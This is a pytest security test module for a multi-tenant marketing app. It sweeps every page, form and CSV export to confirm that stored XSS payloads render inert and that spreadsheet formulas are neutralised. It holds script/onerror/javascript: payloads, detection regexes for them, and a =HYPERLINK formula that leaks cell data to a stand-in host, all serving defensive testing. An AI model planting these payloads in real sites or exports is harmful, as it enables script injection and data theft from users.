"""XSS, swept over every page: payloads stored in every free-text field are shown inert everywhere.

Each payload goes into contacts (names, city, attribute keys and values), tags, lists, segments,
campaigns (name, description, notes, email subject and body, SMS text), templates (body, footer),
channel configs, social accounts, API keys, import files and their errors, provider error texts,
and the workspace name. Then every GET page of the workspace (full page and htmx partial), the
preference centre, the push subscribe page and the sandbox outbox are fetched and searched for
live markup from the payload. CSV exports are swept for spreadsheet formula injection.
"""

from __future__ import annotations

import csv
import io
import re
import uuid

import pytest

from audiences import services as audience_services
from campaigns.content import sanitize_html
from channels.base import OutboundMessage
from channels.services import channel_config_create
from tenants.scoping import tenant_scope
from tests.security.factories import build_world
from tests.security.routes import expand, id_kinds, tenant_routes

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "js_url": "javascript:alert(1)",
}
# Markup the payloads would produce if any reached the page unescaped.
LIVE = [
    re.compile(r"<script>alert\(1\)", re.I),
    re.compile(r"<img src=x onerror=", re.I),
    re.compile(r"""\b(?:href|src|action|formaction|data)\s*=\s*["']?\s*javascript:""", re.I),
]


def live_markup(html: str) -> list[str]:
    return [pattern.pattern for pattern in LIVE if pattern.search(html)]


@pytest.fixture
def payload_world(request, tenant_a, owner, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    payload = PAYLOADS[request.param]
    tenant_a.name = payload
    tenant_a.save()
    world = build_world(tenant_a, actor=owner, text=payload)
    with tenant_scope(tenant_a):
        world["push_config"] = channel_config_create(
            tenant=tenant_a, channel="push", provider="webpush", name=payload[:80],
            values={"contact_email": "ops@acme.example", "site_name": payload, "prompt": payload})
        # An email through the sandbox provider lands on the outbox page, HTML and all.
        config = world["channel_config"]
        config.adapter_class()(config.provider_config()).send([OutboundMessage(
            id=str(uuid.uuid4()), to="asha@example.com", subject=payload, text=payload,
            html=f'<p>{payload}</p><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>'
                 f'<script>alert(1)</script>')])
    world["payload"] = payload
    return world


def _pages(world, tenant) -> list[str]:
    urls: list[str] = []
    for route in tenant_routes():
        missing = [kind for kind in id_kinds(route).values() if kind not in world]
        if missing:
            pytest.fail(f"{route} takes an object id but has no factory for {missing}: add it to build_world")
        urls += expand(route, tenant.slug, world)
    with tenant_scope(tenant):
        token = audience_services.unsubscribe_token(contact=world["contact"], channel="email")
    return [*urls, f"/p/u/{token}/", f"/push/{world['push_config'].webhook_token}/"]


@pytest.mark.parametrize("payload_world", sorted(PAYLOADS), indirect=True)
def test_payloads_in_every_text_field_are_inert_on_every_page(payload_world, tenant_a, owner_client):
    payload = payload_world["payload"]
    shown = 0
    problems = []
    for url in _pages(payload_world, tenant_a):
        for query, headers in (({}, {}), ({}, {"HTTP_HX_REQUEST": "true"}), (_form(payload), {})):
            response = owner_client.get(url, query, **headers)
            html = _html(response, url, problems)
            found = live_markup(html)
            if found:
                problems.append(f"GET {url} {'with the payload in the query' if query else ''} {headers}: {found}")
            shown += _escaped(payload) in html
    assert problems == []
    # The sweep is only meaningful if the payload is actually on the pages, escaped.
    assert shown >= 20


def _html(response, url: str, problems: list[str]) -> str:
    if response.status_code >= 500:
        problems.append(f"{url}: {response.status_code}")
    # 286 is htmx's "stop polling", which still carries a fragment to swap in.
    if response.status_code not in (200, 286) or "text/html" not in response.get("Content-Type", ""):
        return ""  # JSON, CSV and images are not parsed as HTML by browsers (nosniff is set)
    return response.content.decode()


# Names of the text inputs our forms and filters use (templates/ and */forms*.py).
TEXT_INPUTS = ("name", "description", "notes", "note", "first_name", "last_name", "city", "pincode", "locale",
               "handle", "account_id", "body", "footer", "reason", "value", "q", "query", "tag", "tags", "list",
               "lists", "status", "sort", "filter", "scope", "channel", "email", "phone", "attributes", "from",
               "to", "next", "subject", "text", "html", "title", "language", "timezone", "telegram_username")


def _form(payload: str) -> dict[str, str]:
    return dict.fromkeys(TEXT_INPUTS, payload)


@pytest.mark.parametrize("payload_world", sorted(PAYLOADS), indirect=True)
def test_payloads_typed_into_every_form_come_back_inert(payload_world, tenant_a, owner_client):
    # Invalid input re-renders the form with what was typed; valid input redirects to a page
    # with a message naming it. Both must stay inert.
    problems = []
    for url in _pages(payload_world, tenant_a):
        for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
            response = owner_client.post(url, _form(payload_world["payload"]), follow=True, **headers)
            found = live_markup(_html(response, url, problems))
            if found:
                problems.append(f"POST {url} {headers}: {found}")
    assert problems == []


def _escaped(payload: str) -> str:
    from django.utils.html import escape

    return escape(payload)


def test_responses_are_never_sniffed_into_html(tenant_a, owner_client):
    response = owner_client.get(f"/t/{tenant_a.slug}/analytics/dashboard.json")
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_email_html_is_sanitized_for_our_pages():
    dirty = ('<p onclick="alert(1)">Hi</p><script>alert(1)</script><img src=x onerror=alert(1)>'
             '<a href="javascript:alert(1)">x</a><a href="https://shop.example.com/">shop</a>')
    clean = sanitize_html(dirty)
    assert live_markup(clean) == []
    assert "onclick" not in clean and "<script" not in clean
    assert '<a href="https://shop.example.com/" rel="noopener noreferrer">shop</a>' in clean


# --- CSV exports: spreadsheet formula injection -------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# Exports that hold no text a user typed (the payload cannot appear there).
NO_FREE_TEXT = {"analytics:campaign_report_csv": "channel labels and numbers only"}
CSV_ROUTES = [r for r in tenant_routes() if r.route.endswith(".csv")]


def test_every_csv_export_is_in_the_sweep():
    names = {r.name for r in CSV_ROUTES}
    assert names >= {"audiences:contact_export", "audiences:export_segment", "audiences:import_errors",
                     "campaigns:members_export", "campaigns:export", "analytics:campaign_report_csv",
                     "analytics:campaign_members_csv"}


@pytest.fixture
def formula_world(tenant_a, owner, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return build_world(tenant_a, actor=owner, text=FORMULA)


@pytest.mark.parametrize("route", CSV_ROUTES, ids=str)
def test_csv_exports_neutralize_formulas(route, formula_world, tenant_a, owner_client):
    [url] = expand(route, tenant_a.slug, formula_world)
    response = owner_client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    # Downloaded, never shown inline; the filename (built from names users typed) cannot break the header.
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', response["Content-Disposition"])
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)]
    assert dangerous == []
    if route.name in NO_FREE_TEXT:
        return
    # The payload is in the export, as text.
    assert any(c.startswith("'=HYPERLINK") for c in cells), f"{url} does not contain the payload"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
